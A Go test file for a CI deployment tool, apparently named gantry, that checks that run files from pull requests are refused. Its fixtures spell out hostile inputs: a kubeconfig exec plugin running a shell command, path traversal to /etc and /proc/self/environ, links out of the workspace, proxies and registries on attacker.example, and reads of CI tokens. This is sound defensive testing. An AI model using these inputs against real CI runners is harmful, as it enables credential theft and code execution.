package config

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"syscall"
	"testing"
	"time"
)

// hostileWorkspace is a workspace as a pull request could shape it, with
// the runner's secrets around it: a file outside it, a .git folder whose
// config holds a checkout's token, links out of it, a FIFO.
func hostileWorkspace(t *testing.T) (ws, outside string) {
	t.Helper()
	ws, outside = t.TempDir(), t.TempDir()
	for _, d := range []string{"app", ".git", "keys"} {
		if err := os.MkdirAll(filepath.Join(ws, d), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	write := func(p, s string) {
		t.Helper()
		if err := os.WriteFile(p, []byte(s), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	write(filepath.Join(outside, "secret"), "CANARY-outside-secret-value\n")
	write(filepath.Join(outside, "patch.yaml"), "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: CANARY-outside}\n")
	if err := os.MkdirAll(filepath.Join(outside, "crds"), 0o755); err != nil {
		t.Fatal(err)
	}
	write(filepath.Join(ws, ".git", "config"), "[http]\n\textraheader = AUTHORIZATION: basic CANARY-checkout-token\n")
	write(filepath.Join(ws, "keys", "path-not-key.txt"), filepath.Join(outside, "secret")+"\n")
	write(filepath.Join(ws, "keys", "age.txt"), "AGE-SECRET-KEY-1GFPYYSJZGFPYYSJZGFPYYSJZGFPYYSJZGFPYYSJZGFPYYSJZGFPQ4EGAEX\n")
	write(filepath.Join(ws, "short.txt"), "abc\n")
	for link, to := range map[string]string{
		"link-out":     filepath.Join(outside, "secret"),
		"link-dir-out": outside,
		"link-zero":    "/dev/zero",
		"link-etc":     "/etc",
	} {
		if err := os.Symlink(to, filepath.Join(ws, link)); err != nil {
			t.Fatal(err)
		}
	}
	if err := syscall.Mkfifo(filepath.Join(ws, "fifo"), 0o600); err != nil {
		t.Fatal(err)
	}
	// A hard link to the checkout's token, and the workflow's own key and
	// kubeconfig written into the workspace: judged by what they are,
	// not by their names.
	if err := os.Link(filepath.Join(ws, ".git", "config"), filepath.Join(ws, "gitcfg-hard")); err != nil {
		t.Fatal(err)
	}
	write(filepath.Join(ws, "workflow-age.txt"), "AGE-SECRET-KEY-1CANARYWORKFLOWKEYCANARYWORKFLOWKEYCANARYWORKFLOWKEYQQ\n")
	write(filepath.Join(ws, "workflow-kubeconfig.yaml"), kubeconfigWith("    token: CANARY-workflow-kube-token"))
	write(filepath.Join(ws, "exec.yaml"), kubeconfigWith(`    exec:
      apiVersion: client.authentication.k8s.io/v1
      command: /bin/sh
      args: [-c, "touch /tmp/pwned"]`))
	write(filepath.Join(ws, "provider.yaml"), kubeconfigWith(`    auth-provider:
      name: oidc
      config: {idp-issuer-url: "https://issuer.example"}`))
	write(filepath.Join(ws, "tokenfile-zero.yaml"), kubeconfigWith("    tokenFile: /dev/zero"))
	write(filepath.Join(ws, "tokenfile-out.yaml"), kubeconfigWith("    tokenFile: "+filepath.Join(outside, "secret")))
	write(filepath.Join(ws, "cert-out.yaml"), kubeconfigWith("    client-certificate: /etc/ssl/private/runner.pem\n    client-key: /etc/ssl/private/runner.key"))
	write(filepath.Join(ws, "token-in.txt"), "a-token-inside-the-workspace\n")
	write(filepath.Join(ws, "tokenfile-in.yaml"), kubeconfigWith("    tokenFile: token-in.txt"))
	write(filepath.Join(ws, "proxy.yaml"), strings.Replace(kubeconfigWith("    token: a-token-of-its-own"), "{server: ", "{proxy-url: \"http://proxy.attacker.example:3128\", server: ", 1))
	return ws, outside
}

func kubeconfigWith(user string) string {
	return "apiVersion: v1\nkind: Config\nclusters:\n- name: c\n  cluster: {server: \"https://attacker.example:6443\"}\n" +
		"users:\n- name: u\n  user:\n" + user + "\ncontexts:\n- name: c\n  context: {cluster: c, user: u}\ncurrent-context: c\n"
}

// hostileRunFiles are run files a pull request could bring, each with
// what its refusal must say. Every one is refused before anything is read
// through it or sent (exit 2 at the entrypoint), naming the key and the
// file's line, and never echoing what it pointed at.
var hostileRunFiles = []struct {
	name, unit string
	env        map[string]string
	want       []string
}{
	{"the workflow's token", "substitute: {V: {env: GITHUB_TOKEN}}", map[string]string{"GANTRY_RUN_FILE_ENV": "*"}, []string{"gantry.yaml:4", "GITHUB_TOKEN is the CI's own credential"}},
	{"GitLab's job token", "registry-password: {env: CI_JOB_TOKEN}", map[string]string{"GANTRY_RUN_FILE_ENV": "CI_*"}, []string{"gantry.yaml:4", "CI_JOB_TOKEN is the CI's own credential"}},
	{"the OIDC request token", "substitute: {V: {env: ACTIONS_ID_TOKEN_REQUEST_TOKEN}}", map[string]string{"GANTRY_RUN_FILE_ENV": "*"}, []string{"gantry.yaml:4", "ACTIONS_ID_TOKEN_REQUEST_TOKEN is the CI's own"}},
	{"the record-key, in lower case (GitHub's secrets ignore case)", "substitute: {V: {env: gantry_record_key}}", map[string]string{"GANTRY_RUN_FILE_ENV": "*"}, []string{"gantry.yaml:4", "gantry_record_key is the CI's own credential or one of gantry's inputs"}},
	{"the workflow's token, in mixed case", "substitute: {V: {env: GitHub_Token}}", map[string]string{"GANTRY_RUN_FILE_ENV": "*"}, []string{"gantry.yaml:4", "GitHub_Token is the CI's own credential"}},
	{"an input's value", "sops-age-key: {env: INPUT_GITHUB-TOKEN}", map[string]string{"GANTRY_RUN_FILE_ENV": "*"}, []string{"gantry.yaml:4", "INPUT_GITHUB-TOKEN is the CI's own credential or one of gantry's inputs"}},
	{"a variable not allowed", "substitute: {V: {env: DEPLOY_KEY}}", nil, []string{"gantry.yaml:4", "does not let a run file read DEPLOY_KEY", "run-file-env"}},
	{"a variable outside the pattern", "substitute: {V: {env: DEPLOY_KEY}}", map[string]string{"GANTRY_RUN_FILE_ENV": "APP_*"}, []string{"gantry.yaml:4", "does not let a run file read DEPLOY_KEY"}},
	{"the process's environment", "registry-password: {file: /proc/self/environ}", nil, []string{"gantry.yaml:4", "/proc/self/environ", "outside the workspace"}},
	{"the checkout's token", "registry-password: {file: .git/config}", nil, []string{"gantry.yaml:4", "inside a .git folder"}},
	{"a file above the workspace", "substitute: {V: {file: ../../../../../../etc/hostname}}", nil, []string{"gantry.yaml:4", "outside the workspace"}},
	{"a link out of the workspace", "substitute: {V: {file: link-out}}", nil, []string{"gantry.yaml:4", "link-out resolves to", "outside the workspace"}},
	{"a link to /dev/zero", "substitute: {V: {file: link-zero}}", nil, []string{"gantry.yaml:4", "link-zero resolves to /dev/zero"}},
	{"/dev/zero", "substitute: {V: {file: /dev/zero}}", nil, []string{"gantry.yaml:4", "/dev/zero", "outside the workspace"}},
	{"a FIFO", "substitute: {V: {file: fifo}}", nil, []string{"gantry.yaml:4", "fifo", "not a regular file"}},
	{"a hard link to the checkout's token", "substitute: {V: {file: gitcfg-hard}}", nil, []string{"gantry.yaml:4", "gitcfg-hard", ".git"}},
	{"the workflow's age key file", "substitute: {V: {file: workflow-age.txt}}", map[string]string{"SOPS_AGE_KEY_FILE": "WS/workflow-age.txt"}, []string{"gantry.yaml:4", "workflow-age.txt", "credentials"}},
	{"the workflow's kubeconfig", "substitute: {V: {file: workflow-kubeconfig.yaml}}", map[string]string{"KUBECONFIG": "WS/workflow-kubeconfig.yaml"}, []string{"gantry.yaml:4", "workflow-kubeconfig.yaml", "credentials"}},
	{"a value too short to mask", "substitute: {V: {file: short.txt}}", nil, []string{"gantry.yaml:4", "too short to mask"}},
	{"a key file that names another file", "sops-age-key: {file: keys/path-not-key.txt}", nil, []string{"sops-age-key", "not age key text"}},
	{"patches from /etc", "patches: [/etc/hostname]", nil, []string{"gantry.yaml:4", "/etc/hostname is outside the workspace"}},
	{"patches above the workspace", "patches: [../../../../../../etc/hostname]", nil, []string{"gantry.yaml:4", "outside the workspace"}},
	{"a patch through a link", "patches: [link-out]", nil, []string{"gantry.yaml:4", "link-out resolves to"}},
	{"a patch that is /dev/zero", "patches: [link-zero]", nil, []string{"gantry.yaml:4", "link-zero resolves to /dev/zero"}},
	{"a path outside", "path: /etc", nil, []string{"gantry.yaml:4", "/etc is outside the workspace"}},
	{"a path through a link", "path: link-etc", nil, []string{"gantry.yaml:4", "link-etc resolves to /etc"}},
	{"crds from a registry", "crds: [oci://attacker.example/crds:1]", nil, []string{"gantry.yaml:4", "an artifact is an endpoint"}},
	{"crds outside", "crds: [link-dir-out]", nil, []string{"gantry.yaml:4", "outside the workspace"}},
	{"a kubeconfig outside", "kubeconfig: /etc/hostname", nil, []string{"gantry.yaml:4", "outside the workspace"}},
	{"a kubeconfig that runs a command", "kubeconfig: exec.yaml", nil, []string{"gantry.yaml:4", "user u runs a command (exec: /bin/sh)", "allow-kubeconfig-exec"}},
	{"a kubeconfig with an auth provider", "kubeconfig: provider.yaml", nil, []string{"gantry.yaml:4", "auth provider oidc"}},
	{"a kubeconfig's token file /dev/zero", "kubeconfig: tokenfile-zero.yaml", nil, []string{"gantry.yaml:4", "/dev/zero", "outside the workspace"}},
	{"a kubeconfig's token file outside", "kubeconfig: tokenfile-out.yaml", nil, []string{"gantry.yaml:4", "outside the workspace"}},
	{"a kubeconfig's certificates outside", "kubeconfig: cert-out.yaml", nil, []string{"gantry.yaml:4", "/etc/ssl/private/runner.key"}},
	{"a kubeconfig to a server the workflow did not name", "kubeconfig: tokenfile-in.yaml", map[string]string{"GANTRY_RUN_FILE_SERVERS": "https://k8s.acme.example"}, []string{"gantry.yaml:4", "the server https://attacker.example:6443 is not one the workflow lets a run file reach", "run-file-servers"}},
	{"a kubeconfig to a server the workflow's kubeconfig does not have", "kubeconfig: tokenfile-in.yaml", nil, []string{"gantry.yaml:4", "https://attacker.example:6443", "those of the workflow's own kubeconfig"}},
	{"a kubeconfig through a proxy", "kubeconfig: proxy.yaml", map[string]string{"GANTRY_RUN_FILE_SERVERS": "https://attacker.example:6443"}, []string{"gantry.yaml:4", "proxy-url"}},
	{"an artifact on its own registry", "artifact: oci://attacker.example/loot:1", nil, []string{"gantry.yaml:", "the registry attacker.example is not one the workflow names", "registry-hosts"}},
	{"base", "base: HEAD", nil, []string{"gantry.yaml:4", "base decides what a preview compares with", "never in a run file"}},
	{"offline", "offline: true", nil, []string{"gantry.yaml:4", "offline decides what a preview compares with"}},
	{"plain HTTP", "insecure-registry: true", nil, []string{"gantry.yaml:4", "insecure-registry decides how registries are reached"}},
	{"a trusted key", "cosign-public-key: keys/age.txt", nil, []string{"gantry.yaml:4", "cosign-public-key decides a key"}},
	{"trust roots", "certificate-roots: keys/age.txt", nil, []string{"gantry.yaml:4", "certificate-roots decides trust roots"}},
	{"remote bases", "allow-remote-bases: true", nil, []string{"gantry.yaml:4", "allow-remote-bases decides what a build may fetch"}},
	{"bigger files", "max-file-bytes: 99999999999", nil, []string{"gantry.yaml:4", "max-file-bytes decides the bounds"}},
	{"registries for the credentials", "registry-hosts: [attacker.example]", nil, []string{"gantry.yaml:4", "registry-hosts is a setting of the whole run"}},
	{"plugins allowed", "allow-kubeconfig-exec: true", nil, []string{"gantry.yaml:4", "allow-kubeconfig-exec is a setting of the whole run"}},
	{"variables allowed", "run-file-env: ['*']", nil, []string{"gantry.yaml:4", "run-file-env is a setting of the whole run"}},
	{"another workspace", "workspace: /", nil, []string{"gantry.yaml:4", "workspace is a setting of the whole run"}},
}

func TestHostileRunFilesAreRefused(t *testing.T) {
	t.Parallel()
	ws, _ := hostileWorkspace(t)
	var tried, refused atomic.Int32
	t.Cleanup(func() {
		figure(t, fmt.Sprintf("config: hostile run files refused %d of %d (docs/reliability.md lists them)", refused.Load(), tried.Load()))
	})
	for _, tc := range hostileRunFiles {
		t.Run(tc.name, func(t *testing.T) {
			file := filepath.Join(ws, strings.NewReplacer(" ", "-", "/", "-", "'", "").Replace(tc.name)+".gantry.yaml")
			content := "units:\n- name: a\n  path: app\n  " + tc.unit + "\n"
			if err := os.WriteFile(file, []byte(content), 0o600); err != nil {
				t.Fatal(err)
			}
			env := map[string]string{"GANTRY_WORKSPACE": ws, "GITHUB_TOKEN": "CANARY-github-token", "CI_JOB_TOKEN": "CANARY-job-token",
				"ACTIONS_ID_TOKEN_REQUEST_TOKEN": "CANARY-oidc", "INPUT_GITHUB-TOKEN": "CANARY-input", "DEPLOY_KEY": "CANARY-deploy-key"}
			for k, v := range tc.env {
				env[k] = strings.Replace(v, "WS/", ws+"/", 1)
			}
			tried.Add(1)
			err := loadWithin(t, Given{Command: "diff", Env: env, Flags: map[string]string{}}, file)
			if err == nil {
				t.Fatal("accepted")
			}
			ok := !t.Failed()
			defer func() {
				if ok && !t.Failed() {
					refused.Add(1)
				}
			}()
			for _, w := range append(tc.want, filepath.Base(file)) {
				w = strings.Replace(w, "gantry.yaml:", filepath.Base(file)+":", 1)
				if !strings.Contains(err.Error(), w) {
					t.Errorf("the refusal does not say %q:\n%v", w, err)
				}
			}
			if strings.Contains(strings.ToUpper(err.Error()), "CANARY") {
				t.Errorf("the refusal echoes what it pointed at:\n%v", err)
			}
			if _, err := os.Stat("/tmp/pwned"); err == nil {
				t.Errorf("a kubeconfig's plugin ran")
			}
		})
	}
}

// loadWithin loads a run file's units, failing the test should loading
// hang (a read of /dev/zero or a FIFO would).
func loadWithin(t *testing.T, g Given, file string) error {
	t.Helper()
	done := make(chan error, 1)
	go func() {
		_, err := LoadUnits(g, file, false)
		done <- err
	}()
	select {
	case err := <-done:
		return err
	case <-time.After(20 * time.Second):
		t.Fatal("loading the run file did not return: it is reading what it should have refused")
		return nil
	}
}

// What the workflow allows works: a variable run-file-env lists, a file
// inside the workspace, a kubeconfig inside it that runs nothing, and one
// that runs a plugin once the workflow says allow-kubeconfig-exec. Every
// value read through a reference is a secret, line by line, from 8
// characters.
func TestWhatTheWorkflowAllows(t *testing.T) {
	t.Parallel()
	ws, _ := hostileWorkspace(t)
	file := filepath.Join(ws, "gantry.yaml")
	content := `units:
- name: a
  path: app
  kubeconfig: tokenfile-in.yaml
  sops-age-key: {file: keys/age.txt}
  substitute:
    VERSION: {env: APP_VERSION}
    PLAIN: visible
- name: b
  path: app
  kubeconfig: exec.yaml
  registry-username: ci
  registry-password: {env: APP_REGISTRY_PASSWORD}
  crds: [app]
`
	if err := os.WriteFile(file, []byte(content), 0o600); err != nil {
		t.Fatal(err)
	}
	// The servers come from the workflow's own kubeconfig, written as
	// another spelling of the same URL.
	workflowKC := filepath.Join(t.TempDir(), "kubeconfig")
	if err := os.WriteFile(workflowKC, []byte(strings.Replace(kubeconfigWith("    token: t"), "https://attacker.example:6443", "HTTPS://Attacker.example:6443/", 1)), 0o600); err != nil {
		t.Fatal(err)
	}
	env := map[string]string{"GANTRY_WORKSPACE": ws, "GANTRY_RUN_FILE_ENV": "APP_*", "APP_VERSION": "v1.4.2-rc.7",
		"APP_REGISTRY_PASSWORD": "registry-password-7f3a", "GANTRY_ALLOW_KUBECONFIG_EXEC": "true", "KUBECONFIG": workflowKC}
	units, err := LoadUnits(Given{Command: "diff", Env: env, Flags: map[string]string{}}, file, false)
	if err != nil {
		t.Fatal(err)
	}
	a, b := units[0].Config, units[1].Config
	if a.Substitute["VERSION"] != "v1.4.2-rc.7" || a.Substitute["PLAIN"] != "visible" || len(a.SOPSIdentities) != 1 {
		t.Errorf("unit a: substitute %v, %d identities", a.Substitute, len(a.SOPSIdentities))
	}
	for _, want := range []string{"v1.4.2-rc.7", "AGE-SECRET-KEY-1GFPYYSJZGFPYYSJZGFPYYSJZGFPYYSJZGFPYYSJZGFPYYSJZGFPQ4EGAEX"} {
		if !strings.Contains(strings.Join(a.Secrets, "\n"), want) {
			t.Errorf("%s, read through a reference, is not masked", want)
		}
	}
	if strings.Contains(strings.Join(a.Secrets, "\n"), "visible") {
		t.Errorf("a value written in the run file is masked")
	}
	if b.Registry.Password != "registry-password-7f3a" || len(b.Registry.Hosts) != 0 {
		t.Errorf("unit b: password read %v, credential hosts %v (a run file names none)", b.Registry.Password != "", b.Registry.Hosts)
	}
	if len(b.CRDs) != 1 || b.CRDs[0] != filepath.Join(ws, "app") {
		t.Errorf("unit b: crds %v, want the folder relative to the run file", b.CRDs)
	}

	// Without allow-kubeconfig-exec, unit b's kubeconfig is refused.
	delete(env, "GANTRY_ALLOW_KUBECONFIG_EXEC")
	if _, err := LoadUnits(Given{Command: "diff", Env: env, Flags: map[string]string{}}, file, false); err == nil || !strings.Contains(err.Error(), "runs a command") {
		t.Errorf("a kubeconfig with an exec plugin without allow-kubeconfig-exec: %v", err)
	}
}

// A run file outside the workspace, or a link to one, is refused whole.
func TestRunFileOutsideTheWorkspace(t *testing.T) {
	t.Parallel()
	ws, outside := hostileWorkspace(t)
	if err := os.WriteFile(filepath.Join(outside, "gantry.yaml"), []byte("units:\n- {name: a, path: "+ws+"/app}\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(filepath.Join(outside, "gantry.yaml"), filepath.Join(ws, "linked.yaml")); err != nil {
		t.Fatal(err)
	}
	for _, file := range []string{filepath.Join(outside, "gantry.yaml"), filepath.Join(ws, "linked.yaml"), filepath.Join(ws, "fifo")} {
		err := loadWithin(t, Given{Command: "apply", Env: map[string]string{"GANTRY_WORKSPACE": ws}}, file)
		if err == nil || !strings.Contains(err.Error(), "run-file") {
			t.Errorf("%s: %v, want a refusal of the run file", file, err)
		}
	}
}

// Registry credentials are for the registries the workflow names: its
// artifact, compare-to and crds, and registry-hosts; never one a run
// file names.
func TestCredentialHostsComeFromTheWorkflow(t *testing.T) {
	t.Parallel()
	ws, _ := hostileWorkspace(t)
	file := filepath.Join(ws, "gantry.yaml")
	if err := os.WriteFile(file, []byte("units:\n- {name: a, artifact: 'oci://ghcr.io/acme/app:1'}\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	env := map[string]string{"GANTRY_WORKSPACE": ws, "INPUT_REGISTRY-USERNAME": "ci", "INPUT_REGISTRY-PASSWORD": "workflow-password-1"}
	if _, err := LoadUnits(Given{Command: "diff", Env: env}, file, false); err == nil || !strings.Contains(err.Error(), "the registry ghcr.io is not one the workflow names") {
		t.Errorf("a run file's artifact on a registry the workflow does not name: %v", err)
	}
	env["GANTRY_REGISTRY_HOSTS"] = "registry.acme.example:5000\nghcr.io"
	units, err := LoadUnits(Given{Command: "diff", Env: env}, file, false)
	if err != nil {
		t.Fatal(err)
	}
	if h := strings.Join(units[0].Config.Registry.Hosts, ","); h != "registry.acme.example:5000,ghcr.io" {
		t.Errorf("credential hosts %s", h)
	}
	c, err := Load(Given{Command: "diff", Env: map[string]string{"INPUT_ARTIFACT": "oci://registry.acme.example/app:1", "INPUT_REGISTRY-PASSWORD": "pw-12345678"}})
	if err != nil {
		t.Fatal(err)
	}
	if h := strings.Join(c.Registry.Hosts, ","); h != "registry.acme.example" {
		t.Errorf("the workflow's artifact: credential hosts %q", h)
	}
	if _, err := Load(Given{Command: "diff", Env: map[string]string{"INPUT_REGISTRY-HOSTS": "https://evil.example/x"}}); err == nil || !strings.Contains(err.Error(), "registry-hosts") {
		t.Errorf("a URL as a registry host: %v", err)
	}
}

// A run file named relative to the working directory, as a workflow names
// it, is inside the workspace that holds the working directory.
func TestRelativePathsFromTheWorkingDirectory(t *testing.T) {
	t.Parallel()
	wd, err := os.Getwd()
	if err != nil {
		t.Fatal(err)
	}
	real, err := filepath.EvalSymlinks(wd)
	if err != nil {
		t.Fatal(err)
	}
	p := &policy{workspace: real}
	if _, err := p.confine(".", "trust.go", false, 1<<20); err != nil {
		t.Errorf("trust.go from the working directory: %v", err)
	}
	if _, err := p.confine(".", "../go.mod", false, 1<<20); err == nil {
		t.Errorf("../go.mod is outside %s, and was accepted", real)
	}
}

// figure appends a reliability figure to the file GANTRY_FIGURES names
// (make test prints it).
func figure(t *testing.T, line string) {
	path := os.Getenv("GANTRY_FIGURES")
	if path == "" {
		return
	}
	f, err := os.OpenFile(path, os.O_CREATE|os.O_APPEND|os.O_WRONLY, 0o644)
	if err != nil {
		t.Errorf("figures: %v", err)
		return
	}
	defer f.Close()
	if _, err := fmt.Fprintln(f, line); err != nil {
		t.Errorf("figures: %v", err)
	}
}

// plan connects to nothing: a unit's kubeconfig is checked by the job
// that runs the unit, where the workflow's servers are known, not by the
// job that plans.
func TestPlanLeavesKubeconfigsToTheUnitsJobs(t *testing.T) {
	t.Parallel()
	ws, _ := hostileWorkspace(t)
	file := filepath.Join(ws, "gantry.yaml")
	if err := os.WriteFile(file, []byte("units:\n- {name: a, path: app, inventory: a, kubeconfig: tokenfile-in.yaml}\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	g := Given{Command: "apply", Env: map[string]string{"GANTRY_WORKSPACE": ws}}
	if _, err := LoadUnits(g, file, true); err != nil {
		t.Errorf("plan: %v", err)
	}
	if _, err := LoadUnits(g, file, false); err == nil || !strings.Contains(err.Error(), "run-file-servers") {
		t.Errorf("the unit's own run: %v, want the server refused", err)
	}
}

// A bad value is named once, however many parts of the configuration
// read it.
func TestABadOfflineIsNamedOnce(t *testing.T) {
	t.Parallel()
	_, err := Load(Given{Command: "validate", Path: t.TempDir(), Env: map[string]string{"INPUT_OFFLINE": "maybe", "INPUT_KUBECONFIG": "/no/such/kubeconfig"}})
	if err == nil || strings.Count(err.Error(), `"maybe" is not true or false`) != 1 {
		t.Errorf("got %v, want offline named once", err)
	}
}
